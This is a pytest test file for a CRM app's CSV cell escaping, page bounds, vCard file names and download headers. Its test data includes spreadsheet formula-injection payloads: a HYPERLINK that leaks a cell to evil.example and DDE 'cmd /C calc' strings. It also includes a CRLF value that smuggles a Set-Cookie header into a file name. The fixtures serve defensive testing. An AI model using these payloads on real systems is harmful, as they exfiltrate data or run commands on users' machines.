"""Spreadsheet-safe CSV cells, page bounds and download file names (pure functions)."""

import pytest

from crm.csvcell import safe_cell
from crm.pagination import MAX_PAGE, page_bounds
from crm.vcard import card_filename
from webui.security import attachment


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.example/?x="&A1, "clic")',
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "+A1",
        "+1+1",
        "-1-1",
        "+212661234567+1",
        "-",  # nothing but a sign: not a number
        "+212 661 23 45 67 =1",
    ],
)
def test_formulas_get_a_leading_apostrophe(formula):
    assert safe_cell(formula) == "'" + formula


@pytest.mark.parametrize(
    "value",
    [
        "+212661234567",
        "+212661234567, +212536681234",
        "+33 (0)1 23 45 67 89",
        "-12.5",
        "-1,5",
        "0536 68 12 34",
        "Président (Association Nour)",
        "",
        "علي",
    ],
)
def test_numbers_phone_numbers_and_text_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_cells_of_other_types():
    assert safe_cell(None) == ""
    assert safe_cell(-3) == "-3"


def test_page_bounds_clamp_what_a_url_can_carry():
    assert page_bounds(3) == (3, 50, 25)
    assert page_bounds(-7) == (1, 0, 25) and page_bounds(0)[0] == 1
    number, skip, limit = page_bounds(10**20, 50)
    assert number == MAX_PAGE and skip == (MAX_PAGE - 1) * 50 < 2**63 and limit == 50


@pytest.mark.parametrize(
    ("row", "name"),
    [
        ({"first_name": "Fatima Zahra", "last_name": "Alaoui"}, "Fatima-Zahra-ALAOUI.vcf"),
        ({"first_name": "Mohamed", "last_name": "El Alami"}, "Mohamed-EL-ALAMI.vcf"),
        ({"first_name": "Aïcha", "last_name": "Aït-M'barek"}, "Aïcha-AÏT-M-BAREK.vcf"),
        ({"first_name": "a/b", "last_name": '..\\x"y'}, "a-b-X-Y.vcf"),
        (
            {"first_name": "", "last_name": "", "first_name_ar": "محمد", "last_name_ar": "العلمي"},
            "محمد-العلمي.vcf",
        ),
        ({"first_name": "", "last_name": ""}, "contact.vcf"),
    ],
)
def test_card_file_names(row, name):
    assert card_filename(row) == name


@pytest.mark.parametrize(
    ("filename", "disposition"),
    [
        ("journal.csv", "attachment; filename=journal.csv"),
        (
            "Aïcha-AÏT-BAHA.vcf",
            "attachment; filename=Aicha-AIT-BAHA.vcf; "
            "filename*=UTF-8''A%C3%AFcha-A%C3%8FT-BAHA.vcf",
        ),
        (
            "محمد-العلمي.vcf",
            "attachment; filename=contact.vcf; "
            "filename*=UTF-8''%D9%85%D8%AD%D9%85%D8%AF-%D8%A7%D9%84%D8%B9%D9%84%D9%85%D9%8A.vcf",
        ),
        (
            'a"b\r\nSet-Cookie: x.vcf',
            "attachment; filename=a-b-Set-Cookie-x.vcf; "
            "filename*=UTF-8''a%22b%0D%0ASet-Cookie%3A%20x.vcf",
        ),
    ],
)
def test_download_names_have_an_ascii_form_and_an_rfc_5987_one(filename, disposition):
    response = attachment("BEGIN:VCARD", "text/vcard", filename, fallback="contact")
    assert response.headers["Content-Disposition"] == disposition
    assert response.mimetype == "text/vcard"
